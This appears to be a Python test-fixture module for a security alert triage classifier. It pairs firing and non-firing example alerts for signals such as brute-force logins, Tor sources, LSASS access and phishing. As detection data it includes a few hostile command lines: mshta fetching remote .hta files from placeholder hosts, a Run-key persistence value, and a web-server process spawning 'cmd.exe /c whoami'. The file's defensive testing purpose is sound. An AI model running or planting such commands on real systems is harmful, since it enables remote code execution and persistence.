"""One alert for which each signal fires, and a look-alike for which it does not."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from tests.contracts.signal_contract import facts_from, words_of
from triage.classification.facts import Facts, facts_of
from triage.classification.signal import In, Signal
from triage.model.alert import Alert
from triage.model.dossier import Dossier
from triage.model.finding import Enrichment, Finding, Reading, SourceStatus
from triage.model.indicator import Indicator, Kind
from triage.model.risk import RiskFactor, RiskScore
from triage.model.scales import Priority

OUT, IN = "203.0.113.9", "10.0.0.9"
FIELD_OF = {
    In.NAMED: "title",
    In.OWN: "title",
    In.HOUSE: "asset_role",
    In.TOLD: "full_log",
    In.SENTENCE: "message",
    In.COMMAND: "command_line",
    In.SEEN: "command_line",
}
WORDS: dict[str, tuple[str, str]] = {
    name: (yes, no)
    for name, yes, no in json.loads((Path(__file__).parent / "examples_words.json").read_text(encoding="utf-8"))
}


def login(failed: int | None, success: bool | None, source: str, **more: Any) -> dict[str, Any]:
    """A login alert of plain fields."""
    known = {"type": "login", "failed_logins": failed, "success": success, "source_ip": source, **more}
    return {key: value for key, value in known.items() if value is not None}


def sent(size: float, target: str = OUT, **more: Any) -> dict[str, Any]:
    """A transfer of so many GB."""
    return {"bytes_out": int(size * 10**9), "destination_ip": target, **more}


LSASS: dict[str, Any] = {
    "TargetImage": "C:\\Windows\\System32\\lsass.exe",
    "GrantedAccess": "0x1410",
    "CallTrace": "ntdll.dll+9d2d4|UNKNOWN(0000019A7C2D0F4A)",
}
REPLICA: dict[str, Any] = {
    "asset_role": "domain_controller",
    "source_host": "DC7",
    "source_ip": IN,
    "destination_ip": "10.0.0.8",
    "message": "scheduled replication",
}
RAW: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "guessed_login_outside": (login(10, True, OUT), login(9, True, OUT)),
    "guessed_login_inside": (login(20, True, IN), login(19, True, IN)),
    "few_guesses_outside": (login(4, True, OUT), login(4, True, IN)),
    "failed_flood_outside": (login(100, False, OUT), login(99, False, OUT)),
    "failed_flood_inside": (login(100, None, IN), login(100, True, IN)),
    "failed_many_outside": (login(20, None, OUT), login(20, None, IN)),
    "failed_many_inside": (login(99, None, IN), login(100, None, IN)),
    "failed_some_outside": (login(10, None, OUT), login(20, None, OUT)),
    "failed_some_inside": (login(10, None, IN), login(10, None, OUT)),
    "failed_few_outside": (login(4, None, OUT), login(3, None, OUT)),
    "sprayed_accounts": ({"unique_users": 5}, {"unique_users": 4}),
    "push_flood": ({"mfa_pushes": 5}, {"mfa_pushes": 4}),
    "push_flood_approved": ({"mfa_pushes": 9, "success": True}, {"mfa_pushes": 9, "success": False}),
    "login_from_outside": (login(None, True, OUT), login(None, True, IN)),
    "admin_from_outside": (login(None, None, OUT, user="CORP\\Administrator"), login(None, None, IN, user="admin")),
    "night_login": (login(None, True, OUT, time="03:12"), login(None, True, OUT, time="03:12 pm")),
    "tor_network": ({"source_ip": "185.220.101.52"}, {"source_ip": "185.220.104.1"}),
    "office_shell": (
        {"parent_process": "WINWORD.EXE", "process": "cmd.exe"},
        {"parent_process": "explorer.exe", "process": "cmd.exe"},
    ),
    "server_shell": (
        {"parent_process": "w3wp.exe", "command_line": "cmd.exe /c whoami"},
        {"parent_process": "w3wp.exe", "command_line": "csc.exe /out:a.dll"},
    ),
    "left_running": ({"action": "not cleaned"}, {"action": "cleaned"}),
    "files_changed": ({"files_renamed": 500}, {"files_renamed": 499}),
    "volume_huge": (sent(10), sent(10, IN)),
    "volume_large": (sent(1), sent(10)),
    "volume_some": (sent(0.2), sent(0.1)),
    "volume_at_night": (sent(2, time="02:40"), sent(2, time="14:40")),
    "many_ports": ({"ports_scanned": 100}, {"ports_scanned": 99}),
    "many_hosts": ({"host_count": "50"}, {"host_count": "49"}),
    "scan_from_inside": ({"title": "port scan", "source_ip": IN}, {"title": "port scan", "source_ip": OUT}),
    "many_taken": ({"files_downloaded": 1000}, {"files_downloaded": 999}),
    "technique_mapped": ({"rule": {"mitre": {"id": ["T1110"]}}}, {"ticket": "T11"}),
    "part_guilty": ({"evidence": [{"verdict": "malicious"}]}, {"verdict": "malicious"}),
    "called_guilty": ({"classification": "truePositive"}, {"classification": "unknown"}),
    "spray_hit": ({"users_targeted": 40, "users_ok": 1}, {"users_targeted": 40, "users_ok": 0}),
    "tor_login": (login(None, True, "185.220.101.9"), login(None, False, "185.220.101.9")),
    "service_image": (
        {"EventID": 7045, "ServiceName": "x", "ImagePath": "%COMSPEC% /c start"},
        {"EventID": 7045, "ServiceName": "x", "ImagePath": "C:\\Program Files\\Agent\\agent.exe"},
    ),
    "task_content": (
        {"TaskContent": "<Command>mshta.exe</Command> http://203.0.113.1/c.hta"},
        {"TaskContent": "<Command>defrag.exe</Command>"},
    ),
    "ruling_member": (
        {"EventID": 4732, "TargetUserName": "Administrators"},
        {"EventID": 4732, "TargetUserName": "Printers"},
    ),
    "account_event": ({"EventID": "4720"}, {"EventID": "4722"}),
    "lsass_handle": (LSASS, {**LSASS, "GrantedAccess": "0x1000"}),
    "odd_lsass_call": (LSASS, {**LSASS, "CallTrace": "ntdll.dll+9d2d4|kernelbase.dll"}),
    "mail_scopes": (
        {"publisher_verified": False, "scopes": "Mail.Send"},
        {"publisher_verified": True, "scopes": "Mail.Send"},
    ),
    "lure_let_in": (
        {"classification": "phish", "threatStatus": "active", "deliveryAction": "Delivered"},
        {"classification": "phish", "threatStatus": "cleared", "deliveryAction": "Delivered", "phishScore": 100},
    ),
    "many_consents": ({"users_consented": 5}, {"users_consented": 4}),
    "many_names": ({"query_count": 5000}, {"query_count": 4999}),
    "approval_doubted": ({"in_window": False}, {"in_window": True}),
    "listed": ({"egress_listed": True}, {"egress_listed": True, "in_window": False}),
    "doubted_approval": ({"change_ticket": "CHG-1190 (expired)"}, {"change_ticket": "CHG-1190"}),
    "plain_cause": ({"root_cause": "stale credential on a phone"}, {"root_cause": "unknown"}),
    "laboratory": ({"environment": "sandbox"}, {"environment": "sandbox?"}),
    "part_verdict": ({"rescan": "clean"}, {"rescan": "infected"}),
    "run_value": (
        {
            "registry_key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
            "registry_value": "mshta https://x.example/a",
        },
        {
            "registry_key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
            "registry_value": "C:\\App\\a.exe",
        },
    ),
    "steady_calls": ({"interval_seconds": 30, "jitter": "2%"}, {"interval_seconds": 30, "jitter": "40%"}),
    "borrowed_caller": (
        {"interval_seconds": 30, "jitter": 0.02, "process": "regsvr32.exe"},
        {"interval_seconds": 30, "jitter": 0.02, "process": "agent.exe"},
    ),
    "false_sample": (
        {"title": "EICAR file", "action": "allowed", "message": "It spawned cmd.exe"},
        {"title": "EICAR file", "action": "blocked", "message": "It spawned cmd.exe"},
    ),
    "managed_device": (
        {"managed_by": "Intune", "message": "local account made during enrolment"},
        {"managed_by": "Intune", "message": "local account made"},
    ),
    "replication": (
        {**REPLICA, "user": "DC7$"},
        {**REPLICA, "user": "w.gale"},
    ),
    "bot_run": ({"actor": "renovate[bot]", "conclusion": "success"}, {"actor": "renovate", "conclusion": "success"}),
    "bulk_mail": (
        {"classification": "spam", "action": "blocked", "phishScore": 0},
        {"classification": "spam", "action": "blocked", "phishScore": 80},
    ),
    "reported_mail": (
        {"title": "Mail reported by user", "verdict": "newsletter", "url_verdict": "clean", "clicked": False},
        {"title": "Mail reported by user", "verdict": "newsletter", "url_verdict": "clean", "clicked": True},
    ),
    "kept_at_the_edge": (
        {"action": "block", "severity": "niedrig", "OriginResponseStatus": 0},
        {"action": "block", "severity": "niedrig", "OriginResponseStatus": 200},
    ),
    "rule_change": (
        {"object_type": "detection_rule", "message": "Rule enabled: wiper"},
        {"object_type": "detection_rule", "message": "Rule disabled: wiper"},
    ),
    "did_not_run": ({"executed": False, "action": "quarantined"}, {"executed": False, "action": "allowed"}),
    "two_acts": (
        {"message": "login replayed from 203.0.113.4, 900 messages read"},
        {"message": "newsletter with 900 messages planned"},
    ),
    "three_acts": (
        {"message": "login replayed from 203.0.113.4, 900 messages read, new MFA phone added"},
        {"message": "login replayed from 203.0.113.4, 900 messages read"},
    ),
    "course_of_attack": (
        {"message": "password entered, login replayed from 203.0.113.4, 900 messages read, new MFA phone added"},
        {"message": "login replayed from 203.0.113.4, 900 messages read, new MFA phone added"},
    ),
    "system_logon": ({"EventID": 4624, "LogonType": 5}, {"EventID": 4624, "LogonType": 10}),
    "routine_event": ({"EventID": 7036}, {"EventID": 7045}),
    "low_level": (
        {"rule": {"level": 3}, "agent": {"id": "014"}},
        {"rule": {"level": 4}, "agent": {"id": "014"}},
    ),
    "compliant": ({"compliance_status": "PASSED"}, {"compliance_status": "FAILED"}),
    "own_password": (
        {"event_type": "password_change", "device": {"managed": True}},
        {"event_type": "password_change", "device": {"managed": True}, "actor": "helpdesk", "user": "cfo"},
    ),
    "health_page": ({"url": "/healthz", "source_ip": IN}, {"url": "/healthz?x=1", "source_ip": IN}),
    "assured_login": (
        login(0, True, OUT, mfa="satisfied", device_compliant=True),
        login(0, True, OUT, mfa="satisfied", device_compliant=True, location="NL (first time)"),
    ),
    "known_way": (login(0, True, OUT, egress_listed=True), login(3, True, OUT, egress_listed=True)),
    "lone_knock": (
        {"action": "blocked", "count": 1, "source_ip": OUT, "severity": "niedrig"},
        {"action": "blocked", "count": 400, "source_ip": OUT, "severity": "niedrig"},
    ),
    "refused_request": ({"action": "blocked", "http_status": 403}, {"action": "blocked", "http_status": 200}),
    "unwanted_stopped": (
        {"threat_name": "PUA:Win32/Toolbar", "action": "quarantined"},
        {"threat_name": "PUA:Win32/Toolbar", "action": "quarantined", "executed": True},
    ),
    "idle_page": ({"catdesc": "Advertising", "action": "blocked"}, {"catdesc": "Phishing", "action": "blocked"}),
    "innocent": ({"determination": "notMalicious"}, {"message": "notMalicious"}),
    "closed": ({"status": "Closed"}, {"status": "new"}),
    "change": ({"change_ticket": "CHG0048121"}, {"change_ticket": "none", "message": "change_ticket CHG0048121"}),
    "test_flag": ({"is_test": True}, {"is_test": False}),
    "typo": (login(5, True, IN), login(6, True, IN)),
    "few_guesses": (login(9, True, IN), login(9, True, OUT)),
    "few_failures": (login(3, False, IN), login(3, False, OUT)),
    "plain_login": (login(0, True, IN), login(0, True, OUT)),
    "at_home": (login(0, True, IN, location="Office North"), login(0, True, OUT, location="Office North")),
    "known_device": (login(None, True, IN, known_device=True), login(None, True, OUT, known_device=True)),
    "managed": (
        {"parent_process": "C:\\Windows\\CCM\\CcmExec.exe"},
        {"parent_process": "C:\\Users\\Public\\CcmExec.exe"},
    ),
    "stopped_at_the_door": (
        {"title": "port scan", "source_ip": OUT, "action": "blocked"},
        {"title": "port scan", "source_ip": IN, "action": "blocked"},
    ),
    "stopped": ({"action": "Quarantined"}, {"action": "failed to quarantine"}),
    "scanner_told": (
        {"title": "port scan", "source_ip": IN, "message": "weekly Nessus scan"},
        {"title": "port scan", "source_ip": OUT, "message": "weekly Nessus scan"},
    ),
    "daily_life_told": (
        {"title": "transfer", "destination_ip": IN, "message": "nightly backup"},
        {"title": "transfer", "destination_ip": OUT, "message": "nightly backup"},
    ),
}
CLEAN = Reading(abuse_score=0, malicious=0)
READINGS: dict[str, tuple[Reading, Reading]] = {
    "abuse_high": (Reading(abuse_score=75), Reading(abuse_score=74)),
    "abuse_some": (Reading(abuse_score=25), Reading(abuse_score=24)),
    "engines_many": (Reading(malicious=5), Reading(malicious=4)),
    "engines_some": (Reading(malicious=2), Reading(malicious=1)),
    "engine_one": (Reading(malicious=1), CLEAN),
    "bad_list": (Reading(listed_in=("bad_ips",)), Reading(listed_in=("vpn_ranges",))),
    "tor_exit": (Reading(is_tor=True), Reading(is_tor=False)),
    "tor_list": (Reading(listed_in=("tor_exits",)), Reading(listed_in=("bad_ips",))),
    "vpn_exit": (Reading(is_vpn=True), CLEAN),
    "proxy_exit": (Reading(is_proxy=True), CLEAN),
    "all_clean": (CLEAN, Reading(abuse_score=0, malicious=0, is_tor=True)),
}


def with_reading(reading: Reading) -> Facts:
    """The facts of an alert about whose source a source has answered."""
    finding = Finding("abuseipdb", Indicator("8.8.8.8", Kind.IP), SourceStatus.OK, reading)
    alert = Alert("x", {"source_ip": "8.8.8.8"})
    return facts_of(Dossier(alert, datetime(2026, 1, 1, tzinfo=UTC), enrichment=Enrichment((finding,))))


def with_geography(value: float) -> Facts:
    """The facts of an alert whose country the risk score rates so."""
    factor = RiskFactor("geographic_risk", 15, value, 15 * value, "table")
    risk = RiskScore(50, Priority.MEDIUM, (factor,))
    return facts_of(Dossier(Alert("x", {"source_ip": "8.8.8.8"}), datetime(2026, 1, 1, tzinfo=UTC), risk=risk))


def with_message(source: str) -> Facts:
    """The facts of a line that tells of a backup of that machine."""
    alert = Alert("x", {"source_ip": source}, message=f"Nightly backup of {source} completed")
    return facts_of(Dossier(alert, datetime(2026, 1, 1, tzinfo=UTC)))


def examples(signal: Signal) -> tuple[Facts, Facts]:
    """Facts for which the signal fires, and facts of a look-alike. KeyError when nobody declared them."""
    if signal.name == "risky_country":
        return with_geography(0.7), with_geography(0.6)
    if signal.name == "daily_job":
        return with_message(IN), with_message(OUT)
    if signal.name in READINGS:
        yes, no = READINGS[signal.name]
        return with_reading(yes), with_reading(no)
    if signal.name in RAW:
        first, second = RAW[signal.name]
        return facts_from(first), facts_from(second)
    return _by_words(signal)


def _by_words(signal: Signal) -> tuple[Facts, Facts]:
    look = words_of(signal)
    assert look is not None, f"{signal.name} has no example"
    name = signal.name if signal.name in WORDS else signal.name.removesuffix("_told") + "_named"
    yes, no = WORDS[name]
    field = FIELD_OF[look.zone]
    return facts_from({field: yes}), facts_from({field: no})
